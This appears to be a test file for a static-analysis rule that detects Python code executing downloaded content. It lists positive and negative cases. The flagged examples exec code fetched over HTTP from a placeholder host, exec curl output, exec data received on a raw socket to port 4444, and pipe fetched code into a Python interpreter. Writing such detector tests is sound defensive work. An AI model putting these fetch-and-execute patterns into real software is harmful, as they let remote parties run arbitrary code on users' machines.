import socket
import subprocess
import sys
import urllib.request
from urllib.request import urlopen

import requests

URL = "https://example.invalid/stage.py"

# ruleid: exec-downloaded-code
exec(requests.get(URL).text)

resp = urlopen(URL)
body = resp.read().decode()
# ruleid: exec-downloaded-code
exec(body)

# ruleid: exec-downloaded-code
exec(__import__("requests").get(URL).content)

# ruleid: exec-downloaded-code
exec(subprocess.getoutput("curl -s https://example.invalid/x.py"))

s = socket.socket()
s.connect(("203.0.113.5", 4444))
data = s.recv(4096)
# ruleid: exec-downloaded-code
exec(data, {"s": s})

# ok: exec-downloaded-code
meta = requests.get(URL).json()

version = urllib.request.urlopen(URL).read()
# ok: exec-downloaded-code
print(version)

# ok: exec-downloaded-code
eval("1 + 1")


def fetch_and_run(name):
    body = requests.get(f"{URL}/{name}.php", timeout=3).text.encode()
    proc = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE, start_new_session=True)
    # ruleid: exec-downloaded-code
    proc.stdin.write(body)
    proc.stdin.close()


def run_inline():
    code = urlopen(URL).read().decode()
    # ruleid: exec-downloaded-code
    subprocess.run(["python3", "-c", code], check=False)
    proc = subprocess.Popen(["python", "-"], stdin=subprocess.PIPE)
    # ruleid: exec-downloaded-code
    proc.communicate(input=code.encode())


def feed_a_tool():
    listing = requests.get(URL).text
    proc = subprocess.Popen(["sort"], stdin=subprocess.PIPE)
    # ok: exec-downloaded-code
    proc.stdin.write(listing.encode())
    # ok: exec-downloaded-code
    subprocess.run([sys.executable, "-c", "print(1)"], input=listing, text=True)
